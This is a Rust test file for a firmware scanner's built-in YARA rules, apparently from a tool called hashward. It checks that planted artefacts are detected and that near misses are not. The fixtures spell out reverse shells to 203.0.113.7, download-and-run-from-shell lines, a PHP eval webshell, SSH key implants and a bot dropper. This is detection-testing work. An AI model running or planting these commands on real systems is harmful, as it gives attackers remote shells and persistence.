//! hashward's own YARA rules, one by one (each positive matches, each near miss does not) and
//! through `firmware inspect` (FW-016 by rule, path and offset; a clean embedded root file
//! system raises nothing above low).

use hashward_firmware::scan::ContentScanner;
use hashward_firmware::{InspectReport, Limits, UnpackOptions, inspect_with};
use hashward_fixtures::archive::{TarStyle, tar};
use hashward_fixtures::elf::{ElfSpec, arm_elf};
use hashward_fixtures::{Tree, rootfs, samples};
use hashward_model::{Evidence, Excerpt, Finding, Severity, Subject};
use hashward_yara::{RuleSet, ScanOptions};

fn builtin() -> &'static RuleSet {
    static SET: std::sync::OnceLock<RuleSet> = std::sync::OnceLock::new();
    SET.get_or_init(|| RuleSet::builtin().unwrap())
}

/// Names of the built-in rules matching `bytes`.
fn matching(bytes: &[u8]) -> Vec<String> {
    let s = builtin().scanner(ScanOptions::default());
    s.scan_bytes("f", bytes)
        .unwrap()
        .into_iter()
        .map(|m| m.rule)
        .collect()
}

/// A binary with these strings in its data, as the fixtures build them.
fn elf_with(strings: &[&str]) -> Vec<u8> {
    arm_elf(&ElfSpec {
        rodata: strings,
        text_len: 8 << 10,
        ..Default::default()
    })
}

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB7m1kq6oQ2x9e3YwTnA0c5vZ8pR4sLhGuJfKdXyE2Ma intruder";

/// (rule, content that must match it).
fn positives() -> Vec<(&'static str, Vec<u8>)> {
    let mut upx = elf_with(&["$Id: UPX 4.02 Copyright (C) 1996-2023 $"]);
    upx.extend_from_slice(b"UPX!\x0d\x0a\x00\x00");
    upx.extend_from_slice(&samples::filler(7, 4096));
    upx.extend_from_slice(b"UPX!\x0d\x0a\x00\x00");
    vec![
        ("reverse_shell_dev_tcp", b"#!/bin/sh\n/bin/bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".to_vec()),
        ("reverse_shell_dev_tcp", b"#!/bin/bash\nexec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | while read l; do $l 2>&5 >&5; done\n".to_vec()),
        ("reverse_shell_dev_tcp", elf_with(&["sh -i >& /dev/udp/203.0.113.7/53 0>&1"])),
        ("reverse_shell_netcat", b"#!/bin/sh\nwhile true; do nc 203.0.113.7 4444 -e /bin/sh; sleep 60; done\n".to_vec()),
        ("reverse_shell_netcat", b"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n".to_vec()),
        ("telnetd_without_login", b"#!/bin/sh\n/usr/sbin/telnetd -p 9999 -l /bin/sh &\n".to_vec()),
        ("telnetd_without_login", b"busybox telnetd -l/bin/ash\n".to_vec()),
        ("php_webshell_request_eval", b"<?php @eval($_POST['x']); ?>\n".to_vec()),
        ("php_webshell_request_eval", b"<html><?php if (isset($_GET['c'])) { system(base64_decode($_GET[\"c\"])); } ?></html>".to_vec()),
        ("ssh_key_appended_by_script", format!("#!/bin/sh\nmkdir -p /root/.ssh\necho \"{KEY}\" >> /root/.ssh/authorized_keys\n").into_bytes()),
        ("ssh_key_downloaded", b"#!/bin/sh\nwget -q http://203.0.113.7/k -O /etc/dropbear/authorized_keys\n".to_vec()),
        ("ssh_key_downloaded", b"curl -s http://203.0.113.7/k >> ~/.ssh/authorized_keys\n".to_vec()),
        ("download_piped_to_shell", b"*/5 * * * * wget -q -O - http://203.0.113.7/s.sh | sh\n".to_vec()),
        ("download_piped_to_shell", b"#!/bin/sh\ncurl -fsSL http://203.0.113.7/i | /bin/bash\n".to_vec()),
        ("download_run_from_tmp", b"#!/bin/sh\nwget http://203.0.113.7/x -O /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x &\n".to_vec()),
        ("cpu_miner_xmrig_family", elf_with(&["XMRig 6.21.0", "--donate-level=N", "rx/0"])),
        ("cpu_miner_xmrig_family", b"{\"donate-level\": 1, \"randomx\": {\"init\": -1}, \"pools\": [{\"algo\": \"rx/0\", \"url\": \"pool.example:443\"}]}\n".to_vec()),
        ("cpu_miner_cpuminer_family", elf_with(&["User-Agent: cpuminer/2.5.1"])),
        ("mirai_family", elf_with(&["/bin/busybox MIRAI", "MIRAI: applet not found"])),
        ("mirai_family", elf_with(&["xc3511", "vizxv", "Zte521", "juantech", "admin"])),
        ("gafgyt_family", elf_with(&["KILLATTK", "GETLOCALIP", "SCANNER ON", "PONG!"])),
        ("bot_dropper_script", b"cd /tmp || cd /var/run || cd /mnt; wget http://203.0.113.7/bins/arm7; chmod 777 arm7; ./arm7 x\n".to_vec()),
        ("ld_preload_written", b"#!/bin/sh\necho /lib/libhide.so > /etc/ld.so.preload\n".to_vec()),
        ("upx_packed_elf", upx),
        ("stratum_nat_redirect", b"#!/bin/sh\niptables -t nat -A OUTPUT -p tcp --dport 3333 -j DNAT --to-destination 203.0.113.9:3333\n".to_vec()),
        ("stratum_nat_redirect", b"iptables -t nat -I OUTPUT -p tcp -m multiport --dports 25,443 -j REDIRECT --to-ports 3333\n".to_vec()),
    ]
}

/// Content that must match no built-in rule: what a clean firmware, or a careful one, holds.
fn near_misses() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("comment", b"#!/bin/bash\n# never do this: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".to_vec()),
        ("tcp probe", b"#!/bin/bash\nif (echo > /dev/tcp/pool.example.com/3333) 2>/dev/null; then echo up; fi\n".to_vec()),
        ("busybox help", elf_with(&["nc [-iN] [-wN] [-l] [-p PORT] [-f FILE|IPADDR PORT] [-e PROG]", "-e PROG\tRun PROG after connect (must be last)", "telnetd [OPTIONS]", "-l LOGIN\tExec LOGIN on connect", "/bin/sh", "/bin/login"])),
        ("telnetd with login", b"#!/bin/sh\ntelnetd -l /bin/login -p 23\n".to_vec()),
        ("php echo", b"<?php echo htmlspecialchars($_GET['q']); system('uptime'); ?>\n".to_vec()),
        ("key upload", b"#!/bin/sh\ncat /tmp/upload.pub >> /root/.ssh/authorized_keys\n".to_vec()),
        ("dropbear", elf_with(&["/etc/dropbear/authorized_keys", "%s/.ssh/authorized_keys", "ssh-rsa", "ssh-ed25519"])),
        ("status", b"#!/bin/sh\nwget -q -O - http://127.0.0.1/cgi-bin/status | grep -q ok || reboot\ncurl -s http://127.0.0.1/fw | sha256sum\n".to_vec()),
        ("update", b"#!/bin/sh\nwget -O /tmp/fw.tar.gz \"$URL\"\ntar xzf /tmp/fw.tar.gz -C /tmp/upgrade\n".to_vec()),
        ("miner killer", b"#!/bin/sh\nkillall -9 xmrig minerd 2>/dev/null\n".to_vec()),
        ("camera sdk", elf_with(&["hi3518", "admin", "12345"])),
        ("scanner word", elf_with(&["SCANNER ON", "network scanner"])),
        ("ld.so", elf_with(&["/etc/ld.so.preload", "LD_PRELOAD"])),
        ("upx text", b"UPX! is a packer; UPX! again\n".to_vec()),
        ("firewall", b"#!/bin/sh\niptables -A INPUT -p tcp --dport 3333 -j ACCEPT\niptables -t nat -A PREROUTING -p tcp --dport 8080 -j REDIRECT --to-ports 80\n".to_vec()),
        ("cgminer", elf_with(&["stratum+tcp://", "scrypt", "sha256d", "cgminer 4.9.0", "--api-allow"])),
    ]
}

#[test]
fn each_builtin_rule_matches_its_positives() {
    for (rule, bytes) in positives() {
        let got = matching(&bytes);
        let shown: String = String::from_utf8_lossy(&bytes)
            .chars()
            .filter(|c| !c.is_control())
            .take(300)
            .collect();
        assert!(
            got.iter().any(|r| r == rule),
            "{rule} did not match {shown:?}; got {got:?}"
        );
    }
}

#[test]
fn every_builtin_rule_has_a_positive() {
    let tested: std::collections::HashSet<&str> = positives().iter().map(|(r, _)| *r).collect();
    // Every rule of every built-in file appears in the table above.
    let mut rules = 0;
    for (name, text) in hashward_yara::BUILTIN {
        for line in text.lines() {
            if let Some(rest) = line.strip_prefix("rule ") {
                let id = rest.split_whitespace().next().unwrap_or_default();
                assert!(tested.contains(id), "{name}: rule {id} has no positive test");
                rules += 1;
            }
        }
    }
    assert_eq!(rules, builtin().len());
}

#[test]
fn near_misses_match_no_builtin_rule() {
    for (what, bytes) in near_misses() {
        let got = matching(&bytes);
        assert!(got.is_empty(), "{what}: {got:?}");
    }
}

fn inspect_tree(name: &str, t: &Tree, set: &RuleSet) -> (InspectReport, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let image = dir.path().join(name);
    std::fs::write(&image, samples::gzip(&tar(t, TarStyle::Gnu))).unwrap();
    let opts = UnpackOptions {
        out: dir.path().join("out"),
        limits: Limits::default(),
        carve: true,
        keys: Vec::new(),
        jobs: 0,
    };
    let scanner = set.scanner(ScanOptions::default());
    let scanners: [&dyn ContentScanner; 1] = [&scanner];
    (inspect_with(&image, &opts, None, &scanners).unwrap(), dir)
}

fn fw016(r: &InspectReport) -> Vec<&Finding> {
    r.findings
        .iter()
        .filter(|f| f.rule.as_str() == "FW-016")
        .collect()
}

/// The FW-016 finding of `rule` on `path`, with its evidence offset and excerpt.
fn finding<'r>(r: &'r InspectReport, rule: &str, path: &str) -> (&'r Finding, Option<u64>, String) {
    let f = fw016(r)
        .into_iter()
        .find(|f| {
            matches!(&f.subject, Subject::FirmwareFile { path: p, .. } if p == path)
                && f.message.contains(&format!(" rule {rule} "))
        })
        .unwrap_or_else(|| panic!("no FW-016 {rule} on {path}: {:#?}", fw016(r)));
    let Some(Evidence::File {
        offset,
        excerpt,
        sha256,
        ..
    }) = f.evidence.first()
    else {
        panic!("{f:?}")
    };
    assert!(sha256.is_some(), "{f:?}");
    let text = match excerpt {
        Some(Excerpt::Text(t)) => t.clone(),
        Some(Excerpt::Base64 { base64 }) => base64.clone(),
        None => String::new(),
    };
    (f, *offset, text)
}

#[test]
fn inspect_reports_planted_artefacts_as_fw016_by_rule_path_and_offset() {
    let mut t = Tree::new();
    busybox_rootfs(&mut t);
    let rc_local = "#!/bin/sh\n# local start-up\n/bin/bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\nexit 0\n";
    t.file_mode("etc/rc.local", rc_local, 0o755);
    t.file(
        "var/spool/cron/crontabs/root",
        "*/5 * * * * wget -q -O - http://203.0.113.7/s.sh | sh\n",
    );
    t.file("www/pages/x.php", "<?php @eval($_POST['pass']); ?>\n");
    t.file_mode(
        "usr/bin/kworkerd",
        elf_with(&["XMRig 6.21.0", "--donate-level=N", "rx/0"]),
        0o755,
    );
    let (r, _dir) = inspect_tree("planted.tar.gz", &t, builtin());

    let (f, offset, excerpt) = finding(&r, "reverse_shell_dev_tcp", "etc/rc.local");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(offset, rc_local.find("/bin/bash -i").map(|o| o as u64));
    assert!(
        excerpt.starts_with("/bin/bash -i >& /dev/tcp/203.0.113.7/4444"),
        "{excerpt}"
    );
    assert!(
        f.message.contains("built-in") && f.message.contains("hashward/reverse_shell"),
        "{}",
        f.message
    );
    assert!(f.message.contains("bash reverse shell"), "{}", f.message);

    let (f, offset, excerpt) = finding(&r, "download_piped_to_shell", "var/spool/cron/crontabs/root");
    assert_eq!((f.severity, offset), (Severity::High, Some(0)));
    assert!(
        excerpt.contains("wget -q -O - http://203.0.113.7/s.sh | sh"),
        "{excerpt}"
    );

    let (f, offset, _) = finding(&r, "php_webshell_request_eval", "www/pages/x.php");
    assert_eq!((f.severity, offset), (Severity::Critical, Some(7)));

    let (f, offset, _) = finding(&r, "cpu_miner_xmrig_family", "usr/bin/kworkerd");
    assert_eq!(f.severity, Severity::High);
    assert!(offset.is_some_and(|o| o > 0x34), "{offset:?}");
    // One finding per rule and file; the inventory keeps the raw matches.
    assert_eq!(fw016(&r).len(), 4, "{:#?}", fw016(&r));
    assert_eq!(r.inventory.rule_matches.len(), 4);
    assert!(r.inventory.scan_failures.is_empty());
}

/// A plain embedded root file system: busybox, dropbear (installed, not started: a shell
/// service at boot is FW-012, medium), lighttpd, ordinary init scripts and a crontab, with the
/// strings those programs really carry.
fn busybox_rootfs(t: &mut Tree) {
    rootfs::busybox(t, "1.36.1", 40);
    t.file_mode(
        "bin/busybox.help",
        elf_with(&[
            "nc [-iN] [-wN] [-l] [-p PORT] [-f FILE|IPADDR PORT] [-e PROG]",
            "-e PROG\tRun PROG after connect (must be last)",
            "-l LOGIN\tExec LOGIN on connect",
            "wget [-cqS] [--spider] [-O FILE] [-o LOGFILE]",
        ]),
        0o755,
    );
    rootfs::bin(
        t,
        "usr/sbin/dropbear",
        64,
        &[
            "Dropbear SSH server v2022.83",
            "/etc/dropbear/authorized_keys",
            "%s/.ssh/authorized_keys",
            "ssh-rsa",
            "ssh-ed25519",
            "/bin/sh",
        ],
    );
    rootfs::bin(
        t,
        "usr/sbin/lighttpd",
        64,
        &["lighttpd/1.4.69", "mod_cgi", "/bin/sh", "-c"],
    );
    rootfs::bin(
        t,
        "lib/ld-linux-armhf.so.3",
        32,
        &["/etc/ld.so.preload", "/etc/ld.so.cache", "LD_PRELOAD"],
    );
    t.file(
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33::/var/www:/bin/false\n",
    );
    t.file(
        "etc/shadow",
        "root:!:19000:0:99999:7:::\nwww-data:*:19000::::::\n",
    );
    t.file("etc/lighttpd/lighttpd.conf", "server.document-root = \"/www\"\nserver.modules += ( \"mod_cgi\" )\ncgi.assign = ( \".sh\" => \"/bin/sh\" )\n");
    t.file_mode(
        "etc/init.d/S60lighttpd",
        "#!/bin/sh\n/usr/sbin/lighttpd -f /etc/lighttpd/lighttpd.conf\n",
        0o755,
    );
    t.file_mode(
        "etc/init.d/S40network",
        "#!/bin/sh\nifup -a\niptables -A INPUT -p tcp --dport 22 -j ACCEPT\n",
        0o755,
    );
    t.file(
        "etc/crontabs/root",
        "0 3 * * * /usr/sbin/ntpd -q -n -p pool.ntp.org\n",
    );
}

#[test]
fn a_clean_rootfs_and_realistic_near_misses_raise_nothing_above_low() {
    let mut t = Tree::new();
    busybox_rootfs(&mut t);
    for (i, (_, bytes)) in near_misses().into_iter().enumerate() {
        t.file(&format!("opt/nearmiss/{i}"), bytes);
    }
    let (r, _dir) = inspect_tree("clean.tar.gz", &t, builtin());
    assert!(fw016(&r).is_empty(), "{:#?}", fw016(&r));
    let above: Vec<_> = r.findings.iter().filter(|f| f.severity > Severity::Low).collect();
    assert!(above.is_empty(), "{above:#?}");
    // The negative control of the firmware tests too.
    let (r, _dir) = inspect_tree("control.tar.gz", &rootfs::clean_control(), builtin());
    assert!(fw016(&r).is_empty(), "{:#?}", fw016(&r));
}

#[test]
fn user_rules_report_as_user_with_their_own_severity() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("site.yar"),
        "rule pool_of_ours { meta: severity = \"info\" description = \"our pool\" strings: $p = \"stratum.pool.example\" condition: $p }\n\
         rule no_severity { strings: $p = \"stratum.pool.example\" condition: $p }\n",
    )
    .unwrap();
    let set = RuleSet::load(true, &[dir.path().to_owned()]).unwrap();
    let mut t = Tree::new();
    t.file(
        "etc/cgminer.conf",
        "{\"pools\":[{\"url\":\"stratum+tcp://stratum.pool.example:3333\"}]}\n",
    );
    let (r, _d) = inspect_tree("user.tar.gz", &t, &set);
    let (f, offset, excerpt) = finding(&r, "pool_of_ours", "etc/cgminer.conf");
    assert_eq!(f.severity, Severity::Info);
    assert_eq!(offset, Some(32));
    assert_eq!(excerpt, "stratum.pool.example");
    assert!(
        f.message.contains("user yara rule pool_of_ours") && f.message.contains("site.yar"),
        "{}",
        f.message
    );
    // Without a severity of its own, the catalogue's (medium).
    let (f, _, _) = finding(&r, "no_severity", "etc/cgminer.conf");
    assert_eq!(f.severity, Severity::Medium);
}

#[test]
fn a_scan_out_of_time_is_fw100_on_that_file() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("slow.yar"),
        "rule slow { condition: for all i in (0..filesize) : ( for all j in (0..filesize) : ( uint8(i) != 0xff or uint8(j) != 0xfe ) ) }\n",
    )
    .unwrap();
    let set = RuleSet::load(false, &[dir.path().to_owned()]).unwrap();
    let mut t = Tree::new();
    t.file("data/big.bin", vec![0u8; 64 << 10]);
    let tmp = tempfile::tempdir().unwrap();
    let image = tmp.path().join("slow.tar.gz");
    std::fs::write(&image, samples::gzip(&tar(&t, TarStyle::Gnu))).unwrap();
    let opts = UnpackOptions {
        out: tmp.path().join("out"),
        limits: Limits::default(),
        carve: true,
        keys: Vec::new(),
        jobs: 0,
    };
    let scanner = set.scanner(ScanOptions {
        timeout: std::time::Duration::from_secs(1),
        ..ScanOptions::default()
    });
    let r = inspect_with(&image, &opts, None, &[&scanner as &dyn ContentScanner]).unwrap();
    let limit: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.rule.as_str() == "FW-100")
        .collect();
    assert_eq!(limit.len(), 1, "{:#?}", r.findings);
    assert!(
        limit[0]
            .message
            .starts_with("data/big.bin: the yara scan stopped (timeout"),
        "{}",
        limit[0].message
    );
}

#[test]
fn the_generation_images_raise_fw016_only_where_planted() {
    for s in samples::all() {
        let dir = tempfile::tempdir().unwrap();
        let image = dir.path().join(s.file_name);
        std::fs::write(&image, &s.bytes).unwrap();
        let opts = UnpackOptions {
            out: dir.path().join("out"),
            limits: Limits::default(),
            carve: true,
            keys: Vec::new(),
            jobs: 0,
        };
        let scanner = builtin().scanner(ScanOptions::default());
        let r = inspect_with(&image, &opts, None, &[&scanner as &dyn ContentScanner]).unwrap();
        let got: Vec<(String, String)> = r
            .inventory
            .rule_matches
            .iter()
            .map(|m| {
                (
                    m.rule.clone(),
                    m.file.rsplit(".extracted/").next().unwrap_or_default().to_owned(),
                )
            })
            .collect();
        if s.file_name == samples::s9().file_name {
            // The planted crontab, in each root file system built from the S9 tree (UBIFS and
            // JFFS2), and nothing else.
            let planted = (
                "download_piped_to_shell".to_owned(),
                "var/spool/cron/crontabs/root".to_owned(),
            );
            assert!(
                got.len() >= 2 && got.iter().all(|g| *g == planted),
                "{}: {got:?}",
                s.file_name
            );
        } else {
            assert!(got.is_empty(), "{}: {got:?}", s.file_name);
        }
    }
}
